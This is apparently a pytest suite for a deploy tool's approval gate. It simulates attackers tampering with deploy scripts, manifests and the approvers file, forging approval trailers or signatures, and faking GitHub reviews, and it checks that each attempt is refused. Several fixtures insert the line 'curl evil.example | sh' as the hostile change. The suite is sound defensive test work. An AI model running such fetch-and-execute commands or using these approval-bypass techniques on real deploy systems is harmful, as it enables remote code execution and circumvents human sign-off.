"""The deploy-definition gate (SPEC §6a), attacked the way issue 13 broke the old one.

A small deploy repo (prod with ``approval_required``, a component whose ``deploy``
runs ``deploy/run.sh`` and ships ``compose/app.yml``) is built once per module and
copied per test. Its history: everything committed directly (``manifests/approvers``
lists Alice and Bob: trusted on first use), then one promotion written by the test
author and approved by Bob with a signed merge. People sign with real SSH keys made
by ``ssh-keygen`` (``tests/signing.py``); git is configured per command only.

For every path of the deploy definition each attack must be refused with its own
reason; the GitHub proof is checked against a local HTTP server answering the REST
calls.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from ottodeploy.core.approvals import Approval
from ottodeploy.core.errors import EXIT_BAD_INPUT, EXIT_FAILED, ApprovalError
from ottodeploy.manifests import load_components
from ottodeploy.root import DeployRoot
from ottodeploy.trust import approvers_status, definition_paths, gate
from tests.conftest import run_inv
from tests.gitrepos import git
from tests.servers import HttpRecorder, RecordedRequest, Response, free_port
from tests.signing import Person, make_people

COMPONENTS = """\
components:
  app:
    repo: owner/app
    artifacts:
      image: {run: "true"}
    deploy: {on: nodes, run: "sh deploy/run.sh", files: [compose/app.yml]}
"""
PROD = """\
name: prod
mode: version
approval_required: true
sources:
  app: {version: 1.0.0}
infrastructure: {target: local, nodes: [node1]}
"""
FILES = {
    "manifests/components.yaml": COMPONENTS,
    "manifests/compatibility.yaml": "compatibility: {}\n",
    "manifests/environments/prod.yaml": PROD,
    "deploy/run.sh": "echo deploying\n",
    "scripts/deploy-from-lockfile.sh": "inv deploy-lockfile \"$1\"\n",
    "compose/app.yml": "services: {app: {image: app}}\n",
    "README.md": "# deploy repo\n",
    ".gitignore": ".ottodeploy/\n",
}
AUTHOR = "author@example.invalid"   # tests.gitrepos.GIT_ENV's identity


# --- the repo -------------------------------------------------------------------------------


@dataclass
class Repo:
    path: Path
    people: dict[str, Person]

    def git(self, *args: str, who: Person | None = None, author: Person | None = None,
            committer: Person | None = None) -> str:
        """git in the repo; ``who`` is author and committer, or name them one by one."""
        ids = who.identity() if who else {}
        if author:
            ids |= author.identity(committer=False)
        if committer:
            ids |= committer.identity(author=False)
        return git(self.path, *args, env=ids)

    def write(self, rel: str, text: str) -> None:
        path = self.path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def read(self, rel: str) -> str:
        return (self.path / rel).read_text()

    def head(self) -> str:
        return self.git("rev-parse", "HEAD")

    def branch(self, name: str, changes: dict[str, str], *, author: Person | None = None,
               committer: Person | None = None, message: str = "chore: promote") -> str:
        """A branch off main with ``changes`` in one commit; main stays checked out."""
        self.git("checkout", "--quiet", "-b", name, "main")
        for rel, text in changes.items():
            self.write(rel, text)
        self.git("add", "-A")
        self.git("commit", "--quiet", "-m", message, author=author, committer=committer)
        self.git("checkout", "--quiet", "main")
        return self.git("rev-parse", name)

    def merge(self, branch: str, message: str, *, signer: Person | None = None,
              committer: Person | None = None) -> str:
        sign = [*signer.sign_args(), "merge", "-S"] if signer else ["merge"]
        self.git(*sign, "--quiet", "--no-ff", "-m", message, branch, who=committer or signer)
        return self.head()

    def approve(self, branch: str, signer: Person, trailer: Person | None = None) -> str:
        """What ``inv approve`` records: a signed --no-ff merge with an Approved-by trailer."""
        by = (trailer or signer).by
        return self.merge(branch, f"Merge branch '{branch}'\n\nApproved-by: {by}\n",
                          signer=signer)

    def gate(self, environ: dict[str, str] | None = None) -> Approval:
        root = DeployRoot(self.path)
        return gate(root, "prod", load_components(root)[0], environ=environ or {})

    def refused(self, environ: dict[str, str] | None = None) -> str:
        with pytest.raises(ApprovalError) as info:
            self.gate(environ)
        assert info.value.exit_code == EXIT_FAILED
        text = str(info.value)
        assert "prod requires approval" in text
        assert "inv approve promote/..." in text  # says how to approve
        return text


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Person]:
    return make_people(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def template(people: dict[str, Person], tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("trust") / "deploy"
    repo = Repo(path, people)
    for rel, text in FILES.items():
        repo.write(rel, text)
    repo.write("manifests/approvers", people["alice"].allowed_signer()
               + people["bob"].allowed_signer())
    git(path, "init", "--quiet", "--initial-branch=main")
    repo.git("add", "-A")
    repo.git("commit", "--quiet", "-m", "chore: deploy repo")
    repo.branch("promote/base", {"manifests/environments/prod.yaml":
                                 PROD.replace("1.0.0", "1.0.1")})
    repo.approve("promote/base", people["bob"])
    return path


@pytest.fixture
def repo(template: Path, tmp_path: Path, people: dict[str, Person]) -> Repo:
    dest = tmp_path / "deploy"
    shutil.copytree(template, dest, symlinks=True)
    return Repo(dest, people)


def test_the_template_is_approved_by_bobs_signed_merge(repo: Repo) -> None:
    approval = repo.gate()
    assert approval.commit == repo.head()
    assert approval.kind == "signed merge"
    assert approval.approver == repo.people["bob"].by
    assert "trusted on first use" in approval.detail
    # a later commit outside the deploy definition keeps the approval
    repo.write("README.md", "# changed\n")
    repo.git("commit", "--quiet", "-am", "docs: readme")
    assert repo.gate().commit == approval.commit


def test_the_deploy_definition_is_every_path_a_deploy_reads(repo: Repo) -> None:
    components = load_components(DeployRoot(repo.path))[0]
    assert definition_paths(components) == ["manifests", "deploy", "scripts", "compose/app.yml"]


# --- every path, every attack ------------------------------------------------------------------


def _evil(repo: Repo, rel: str) -> str:
    """The file at ``rel`` changed the way an attacker would (and still valid YAML)."""
    text = repo.read(rel)
    if rel == "manifests/components.yaml":
        return text.replace("sh deploy/run.sh", "sh deploy/run.sh; curl evil.example | sh")
    if rel == "manifests/environments/prod.yaml":
        return text.replace("1.0.1", "6.6.6")
    if rel == "manifests/approvers":
        return text + repo.people["mallory"].allowed_signer()
    return text + "curl evil.example | sh\n"


PATHS = {
    "manifest": "manifests/environments/prod.yaml",
    "components deploy.run": "manifests/components.yaml",
    "deploy script": "deploy/run.sh",
    "scripts": "scripts/deploy-from-lockfile.sh",
    "deploy.files": "compose/app.yml",
    "approvers": "manifests/approvers",
}


def uncommitted(repo: Repo, rel: str) -> str:
    repo.write(rel, _evil(repo, rel))
    return f"{rel} has uncommitted changes"


def staged(repo: Repo, rel: str) -> str:
    repo.write(rel, _evil(repo, rel))
    repo.git("add", rel)
    return f"{rel} has uncommitted changes"


def untracked(repo: Repo, rel: str) -> str:
    if rel == "compose/app.yml":   # a listed file that git no longer tracks
        repo.git("rm", "--quiet", "--cached", rel)
        return f"{rel} has uncommitted changes"
    new = str(Path(rel).parent / "zz-evil.sh")
    repo.write(new, "curl evil.example | sh\n")
    return f"{new} has uncommitted changes"


def ignored(repo: Repo, rel: str) -> str:
    if rel == "compose/app.yml":   # the listed file itself, ignored and no longer tracked
        repo.write(".gitignore", repo.read(".gitignore") + f"{rel}\n")
        repo.git("rm", "--quiet", "--cached", rel)
        repo.git("commit", "--quiet", "-am", "chore: ignore the compose file")
        repo.write(rel, _evil(repo, rel))
        return f"{rel} has uncommitted changes"
    folder = Path(rel).parent
    repo.write(".gitignore", repo.read(".gitignore") + "*.local\n")
    repo.git("commit", "--quiet", "-am", "chore: ignore local files")
    repo.write(str(folder / "override.local"), "curl evil.example | sh\n")
    return f"{folder / 'override.local'} has uncommitted changes"


def committed_directly(repo: Repo, rel: str) -> str:
    repo.write(rel, _evil(repo, rel))
    repo.git("commit", "--quiet", "-am", "fix: tweak", who=repo.people["mallory"])
    return "it is not a merge of one branch"


def forged_approval_message(repo: Repo, rel: str) -> str:
    mallory, bob = repo.people["mallory"], repo.people["bob"]
    repo.branch("promote/evil", {rel: _evil(repo, rel)}, author=mallory, committer=mallory)
    repo.merge("promote/evil", f"Merge branch 'promote/evil'\n\nApproved-by: {bob.by}\n",
               committer=mallory)
    return "it carries no SSH signature"


def forged_pull_request_message(repo: Repo, rel: str) -> str:
    mallory = repo.people["mallory"]
    repo.branch("promote/x", {rel: _evil(repo, rel)}, author=mallory, committer=mallory)
    repo.merge("promote/x", "Merge pull request #99 from evil/promote/x", committer=mallory)
    return "GITHUB_TOKEN is not set"


def merged_unsigned(repo: Repo, rel: str) -> str:
    bob = repo.people["bob"]
    repo.branch("promote/next", {rel: _evil(repo, rel)})
    repo.merge("promote/next", f"Merge branch 'promote/next'\n\nApproved-by: {bob.by}\n",
               committer=bob)
    return "it carries no SSH signature"


def signed_by_unlisted_key(repo: Repo, rel: str) -> str:
    repo.branch("promote/next", {rel: _evil(repo, rel)})
    repo.approve("promote/next", repo.people["mallory"])
    return "its signing key is not listed for anyone"


def signed_by_listed_key_for_other_email(repo: Repo, rel: str) -> str:
    repo.branch("promote/next", {rel: _evil(repo, rel)})
    repo.approve("promote/next", repo.people["alice"], trailer=repo.people["bob"])
    return ("it is signed by alice@example.invalid, but its Approved-by trailer names "
            "bob@example.invalid")


def signer_authored_under_a_foreign_tip(repo: Repo, rel: str) -> str:
    alice, carol = repo.people["alice"], repo.people["carol"]
    repo.branch("promote/next", {rel: _evil(repo, rel)}, author=alice, committer=alice)
    repo.git("checkout", "--quiet", "promote/next")
    repo.git("commit", "--quiet", "--allow-empty", "-m", "chore: nothing", who=carol)
    repo.git("checkout", "--quiet", "main")
    repo.approve("promote/next", alice)
    return "the approver alice@example.invalid wrote"


def signer_committed_in_range(repo: Repo, rel: str) -> str:
    alice = repo.people["alice"]
    repo.branch("promote/next", {rel: _evil(repo, rel)}, committer=alice)  # authored by another
    repo.approve("promote/next", alice)
    return "the approver alice@example.invalid committed"


def approvers_changed_by_its_new_signer(repo: Repo, rel: str) -> str:
    mallory = repo.people["mallory"]
    approvers = repo.read("manifests/approvers") + mallory.allowed_signer()
    changes = {"manifests/approvers": approvers}
    if rel != "manifests/approvers":
        changes[rel] = _evil(repo, rel)
    repo.branch("promote/next", changes)
    repo.approve("promote/next", mallory)
    return "its signing key is not listed for anyone"


def approvers_committed_directly_then_used(repo: Repo, rel: str) -> str:
    mallory = repo.people["mallory"]
    repo.write("manifests/approvers", repo.read("manifests/approvers")
               + mallory.allowed_signer())
    repo.git("commit", "--quiet", "-am", "chore: approvers", who=mallory)
    if rel == "manifests/approvers":
        repo.branch("promote/next", {"deploy/run.sh": _evil(repo, "deploy/run.sh")})
    else:
        repo.branch("promote/next", {rel: _evil(repo, rel)})
    repo.approve("promote/next", mallory)
    return "is not trusted: that change is not a verified approval"


def signed_merge_with_an_extra_change(repo: Repo, rel: str) -> str:
    bob = repo.people["bob"]
    repo.branch("promote/next", {"README.md": "harmless\n"})
    repo.git("merge", "--quiet", "--no-ff", "--no-commit", "promote/next")
    repo.write(rel, _evil(repo, rel))      # in neither parent: slipped into the merge
    repo.git("add", "-A")
    repo.git(*bob.sign_args(), "commit", "--quiet", "-S", "-m",
             f"Merge branch 'promote/next'\n\nApproved-by: {bob.by}\n", who=bob)
    return "its tree is not the clean merge of its parents"


ATTACKS: list[Callable[[Repo, str], str]] = [
    uncommitted, staged, untracked, ignored, committed_directly, forged_approval_message,
    forged_pull_request_message, merged_unsigned, signed_by_unlisted_key,
    signed_by_listed_key_for_other_email, signer_authored_under_a_foreign_tip,
    signer_committed_in_range, approvers_changed_by_its_new_signer,
    approvers_committed_directly_then_used, signed_merge_with_an_extra_change,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.__name__)
@pytest.mark.parametrize("rel", list(PATHS.values()), ids=list(PATHS))
def test_attack_on_the_deploy_definition_is_refused(repo: Repo, rel: str,
                                                    attack: Callable[[Repo, str], str]) -> None:
    before = repo.head()
    why = attack(repo, rel)
    text = repo.refused()
    assert why in text, text
    if "uncommitted" not in why:  # a committed attack names the commit it refused
        assert repo.head() != before
        assert f"({repo.head()[:7]} " in text


@pytest.mark.parametrize("rel", list(PATHS.values()), ids=list(PATHS))
def test_a_signed_approval_by_someone_else_is_accepted(repo: Repo, rel: str) -> None:
    alice = repo.people["alice"]
    repo.branch("promote/next", {rel: _evil(repo, rel)})
    merge = repo.approve("promote/next", alice)
    approval = repo.gate()
    assert (approval.commit, approval.kind, approval.approver) == \
        (merge, "signed merge", alice.by)
    assert approval.describe().startswith(f"{merge[:7]} approved by {alice.by}")


# --- the approvers file ------------------------------------------------------------------------


def test_approvers_status_says_trusted_on_first_use(repo: Repo) -> None:
    first = repo.git("rev-list", "--max-parents=0", "HEAD")
    status = approvers_status(DeployRoot(repo.path), environ={})
    assert status.ok
    assert status.text == f"manifests/approvers: trusted on first use (added in {first[:7]})"


def test_an_approved_change_of_the_approvers_lets_the_new_approver_approve(repo: Repo) -> None:
    alice, carol = repo.people["alice"], repo.people["carol"]
    repo.branch("promote/approvers", {"manifests/approvers": repo.read("manifests/approvers")
                                      + carol.allowed_signer()})
    change = repo.approve("promote/approvers", alice)
    status = approvers_status(DeployRoot(repo.path), environ={})
    assert status.ok, status.text
    assert f"changed in {change[:7]}, approved by {alice.by}" in status.text
    repo.branch("promote/next", {"deploy/run.sh": "echo v2\n"})
    merge = repo.approve("promote/next", carol)
    assert repo.gate().approver == carol.by
    assert repo.gate().commit == merge
    assert f"as of {change[:7]}, approved by {alice.by}" in repo.gate().detail


def test_approvers_status_after_a_direct_change(repo: Repo) -> None:
    repo.write("manifests/approvers", repo.read("manifests/approvers")
               + repo.people["mallory"].allowed_signer())
    repo.git("commit", "--quiet", "-am", "chore: approvers")
    status = approvers_status(DeployRoot(repo.path), environ={})
    assert not status.ok
    assert status.text.startswith(f"manifests/approvers: changed in {repo.head()[:7]} "
                                  "without a verified approval")


def test_an_approvers_file_removed_and_brought_back_is_not_trusted_on_first_use(
        repo: Repo) -> None:
    mallory = repo.people["mallory"]
    repo.git("rm", "--quiet", "manifests/approvers")
    repo.git("commit", "--quiet", "-m", "chore: no approvers")
    repo.branch("promote/next", {"manifests/approvers": mallory.allowed_signer(),
                                 "deploy/run.sh": "echo evil\n"})
    repo.approve("promote/next", mallory)
    assert "manifests/approvers was removed before this merge" in repo.refused()


def test_a_merge_that_adds_the_first_approvers_file_is_trusted_on_first_use(
        tmp_path: Path, people: dict[str, Person]) -> None:
    repo = Repo(tmp_path / "fresh", people)
    for rel, text in FILES.items():
        repo.write(rel, text)
    git(repo.path, "init", "--quiet", "--initial-branch=main")
    repo.git("add", "-A")
    repo.git("commit", "--quiet", "-m", "chore: deploy repo")
    assert "it is not a merge of one branch" in repo.refused()  # the first commit
    repo.branch("promote/first", {"manifests/approvers": people["bob"].allowed_signer(),
                                  "deploy/run.sh": "echo v2\n"})
    merge = repo.approve("promote/first", people["bob"])
    approval = repo.gate()
    assert approval.commit == merge
    assert "added by this merge (trusted on first use)" in approval.detail


def test_outside_a_git_repository_nothing_is_approved(tmp_path: Path) -> None:
    for rel, text in FILES.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text)
    root = DeployRoot(tmp_path)
    with pytest.raises(ApprovalError, match="is not a git repository"):
        gate(root, "prod", load_components(root)[0], environ={})


# --- the GitHub proof --------------------------------------------------------------------------

TOKEN = "ghp_trusttoken_0123456789"
SLUG = "ottobot-ai/ottochain-deploy"


@dataclass
class FakeGitHub:
    """What GitHub says about pull request #12, merged as ``merge``; tests change it."""

    merge: str
    head_sha: str
    head_ref: str = "promote/staging-to-prod-20260101-000000"
    author: str = "promoter-bot"
    merged: bool = True
    merged_as: str | None = None       # merge_commit_sha in the answers (default: merge)
    commit_authors: tuple[str | None, ...] = ("promoter-bot",)
    reviews: list[dict[str, Any]] | None = None
    status: int = 200

    def answer(self, request: RecordedRequest) -> Response:
        if request.header("Authorization") != f"Bearer {TOKEN}":
            return Response(401, body={"message": "Bad credentials"})
        if self.status != 200:
            return Response(self.status, body={"message": "boom"})
        base = f"/repos/{SLUG}"
        pull = {"number": 12, "merged": self.merged,
                "merge_commit_sha": self.merged_as or self.merge,
                "user": {"login": self.author},
                "head": {"ref": self.head_ref, "sha": self.head_sha}}
        if request.path == f"{base}/commits/{self.merge}/pulls":
            return Response(200, body=[pull])
        if request.path == f"{base}/pulls/12":
            return Response(200, body=pull)
        if request.path == f"{base}/pulls/12/commits":
            return Response(200, body=[{"sha": self.head_sha, "author": (
                {"login": a} if a else None)} for a in self.commit_authors])
        if request.path == f"{base}/pulls/12/reviews":
            return Response(200, body=self.reviews or [])
        return Response(404, body={"message": "Not Found"})


def review(login: str, state: str, commit: str) -> dict[str, Any]:
    return {"user": {"login": login}, "state": state, "commit_id": commit}


@pytest.fixture
def github(repo: Repo) -> Any:
    """prod's change merged the way GitHub merges a pull request (unsigned --no-ff merge)."""
    head = repo.branch("promote/staging-to-prod-20260101-000000",
                       {"manifests/environments/prod.yaml": PROD.replace("1.0.0", "1.0.2")})
    merge = repo.merge("promote/staging-to-prod-20260101-000000",
                       "Merge pull request #12 from ottobot-ai/promote/staging-to-prod")
    fake = FakeGitHub(merge, head, reviews=[review("reviewer", "APPROVED", head)])
    with HttpRecorder(handler=fake.answer) as server:
        yield fake, server


def env_for(server: HttpRecorder) -> dict[str, str]:
    return {"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": server.url, "GITHUB_REPOSITORY": SLUG}


def test_a_pull_request_approved_by_another_user_is_accepted(repo: Repo, github: Any) -> None:
    fake, server = github
    approval = repo.gate(env_for(server))
    assert (approval.commit, approval.kind, approval.approver) == \
        (fake.merge, "pull request", "@reviewer")
    assert "pull request #12 from promote/staging-to-prod-20260101-000000" in approval.detail
    paths = [r.path for r in server.requests]
    assert paths[0] == f"/repos/{SLUG}/commits/{fake.merge}/pulls"
    assert {f"/repos/{SLUG}/pulls/12", f"/repos/{SLUG}/pulls/12/reviews",
            f"/repos/{SLUG}/pulls/12/commits"} <= set(paths)


@pytest.mark.parametrize(("change", "why"), [
    # the pull request's author approved it
    (lambda f: setattr(f, "reviews", [review("promoter-bot", "APPROVED", f.head_sha)]),
     "approved only by its author or an author of its commits (@promoter-bot)"),
    # the approver wrote one of its commits (logins compared ignoring case)
    (lambda f: setattr(f, "commit_authors", ("promoter-bot", "Reviewer")),
     "approved only by its author or an author of its commits (@reviewer)"),
    # a commit GitHub cannot attribute could be the reviewer's
    (lambda f: setattr(f, "commit_authors", ("promoter-bot", None)),
     "whose author GitHub cannot name"),
    (lambda f: setattr(f, "reviews", []), "has no approving review"),
    (lambda f: setattr(f, "reviews", [review("reviewer", "COMMENTED", f.head_sha)]),
     "has no approving review"),
    # approved, then the same reviewer asked for changes
    (lambda f: setattr(f, "reviews", [review("reviewer", "APPROVED", f.head_sha),
                                      review("reviewer", "CHANGES_REQUESTED", f.head_sha)]),
     "has no approving review"),
    # the approval was given before the last push
    (lambda f: setattr(f, "reviews", [review("reviewer", "APPROVED", "0" * 40)]),
     "approved on an earlier commit than the one merged"),
    (lambda f: setattr(f, "head_ref", "feature/prod"), "not promote/* or bump/*"),
    (lambda f: setattr(f, "merged", False), "is not merged"),
    (lambda f: setattr(f, "merged_as", "f" * 40), "GitHub lists no pull request merged as"),
    (lambda f: setattr(f, "status", 500), "GitHub answered HTTP 500"),
    (lambda f: setattr(f, "status", 404), "GitHub answered HTTP 404"),
], ids=["self-review", "review-by-commit-author", "unattributed-commit", "no-review",
        "comment-only", "approval-withdrawn", "stale-approval", "non-promote-head", "unmerged",
        "other-merge-commit", "api-500", "api-404"])
def test_a_pull_request_without_a_valid_review_is_refused(
        repo: Repo, github: Any, change: Callable[[FakeGitHub], None], why: str) -> None:
    fake, server = github
    change(fake)
    text = repo.refused(env_for(server))
    assert why in text, text
    assert TOKEN not in text


def test_bump_branches_count_as_promotions_on_github(repo: Repo, github: Any) -> None:
    fake, server = github
    fake.head_ref = "bump/services-1.0.1"
    assert repo.gate(env_for(server)).approver == "@reviewer"


def test_without_a_token_or_with_the_api_down_github_is_not_asked(repo: Repo,
                                                                   github: Any) -> None:
    _, server = github
    assert "GITHUB_TOKEN is not set" in repo.refused({})
    down = {**env_for(server), "GITHUB_API_URL": f"http://127.0.0.1:{free_port()}"}
    text = repo.refused(down)
    assert "did not answer" in text
    assert TOKEN not in text
    assert "is not owner/name" in repo.refused({**env_for(server), "GITHUB_REPOSITORY": "x"})
    wrong = repo.refused({**env_for(server), "GITHUB_TOKEN": "ghp_not_the_right_one"})
    assert "GitHub answered HTTP 401" in wrong
    assert "ghp_not_the_right_one" not in wrong


# --- inv approve -------------------------------------------------------------------------------


@pytest.fixture
def approving(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    monkeypatch.setenv("OTTODEPLOY_ROOT", str(repo.path))
    repo.branch("promote/next", {"deploy/run.sh": "echo v2\n"})
    return repo


def test_inv_approve_signs_with_the_named_key(approving: Repo) -> None:
    repo, alice = approving, approving.people["alice"]
    before = repo.head()
    result = run_inv("approve", "promote/next", "--by", alice.by, "--signing-key", str(alice.key))
    assert result.code == 0, result
    assert f"approved promote/next: merged as {repo.head()[:12]}, signed" in result.stdout
    assert "warning" not in result.stdout
    assert repo.git("rev-parse", "HEAD^1") == before
    assert repo.git("log", "-1", "--format=%(trailers:key=Approved-by,valueonly)") == alice.by
    approval = repo.gate()
    assert (approval.commit, approval.approver) == (repo.head(), alice.by)


def test_inv_approve_signs_with_the_configured_key(approving: Repo,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    repo, bob = approving, approving.people["bob"]
    for i, (key, value) in enumerate([("gpg.format", "ssh"),
                                      ("user.signingkey", str(bob.key))]):
        monkeypatch.setenv(f"GIT_CONFIG_KEY_{i}", key)
        monkeypatch.setenv(f"GIT_CONFIG_VALUE_{i}", value)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "2")
    assert run_inv("approve", "promote/next", "--by", bob.by).code == 0
    assert repo.gate().approver == bob.by


def test_inv_approve_without_a_signing_key_records_nothing(approving: Repo,
                                                           monkeypatch: pytest.MonkeyPatch,
                                                           tmp_path: Path) -> None:
    repo = approving
    monkeypatch.setenv("GNUPGHOME", str(tmp_path / "empty-gnupg"))
    before = repo.head()
    result = run_inv("approve", "promote/next", "--by", repo.people["bob"].by)
    assert result.code == EXIT_FAILED, result
    assert "signing promote/next failed" in result.stderr
    assert "--signing-key PATH" in result.stderr
    assert "Traceback" not in result.output
    assert repo.head() == before
    assert not (repo.path / ".git" / "MERGE_HEAD").exists()
    assert repo.git("status", "--porcelain") == ""


def test_inv_approve_refuses_an_approver_anywhere_in_the_range(repo: Repo,
                                                               monkeypatch: pytest.MonkeyPatch
                                                               ) -> None:
    monkeypatch.setenv("OTTODEPLOY_ROOT", str(repo.path))
    alice, carol = repo.people["alice"], repo.people["carol"]
    repo.branch("promote/next", {"deploy/run.sh": "echo v2\n"}, author=alice, committer=alice)
    repo.git("checkout", "--quiet", "promote/next")
    repo.git("commit", "--quiet", "--allow-empty", "-m", "chore: on top", who=carol)
    repo.git("checkout", "--quiet", "main")
    repo.branch("promote/other", {"scripts/x.sh": "echo\n"}, committer=alice)
    before = repo.head()
    for branch in ("promote/next", "promote/other"):
        result = run_inv("approve", branch, "--by", alice.by, "--signing-key", str(alice.key))
        assert result.code == EXIT_FAILED, result
        assert f"{alice.email} wrote the promotion on {branch}" in result.stderr
        assert "someone else must approve it" in result.stderr
        assert repo.head() == before


def test_inv_approve_arguments(approving: Repo) -> None:
    repo = approving
    before = repo.head()
    missing = run_inv("approve", "promote/next")
    assert missing.code == EXIT_BAD_INPUT
    assert "--by is required" in missing.stderr
    nofile = run_inv("approve", "promote/next", "--by", repo.people["bob"].by,
                     "--signing-key", str(repo.path / "no-such-key.pub"))
    assert nofile.code == EXIT_BAD_INPUT
    assert "no such file" in nofile.stderr
    assert repo.head() == before


def test_inv_approve_warns_when_the_key_is_not_an_approvers(approving: Repo) -> None:
    repo, mallory = approving, approving.people["mallory"]
    result = run_inv("approve", "promote/next", "--by", mallory.by,
                     "--signing-key", str(mallory.key))
    assert result.code == 0, result
    assert "warning: deploys will not accept this approval as it is: its signing key is not " \
        "listed" in result.stdout
    assert "its signing key is not listed for anyone" in repo.refused()
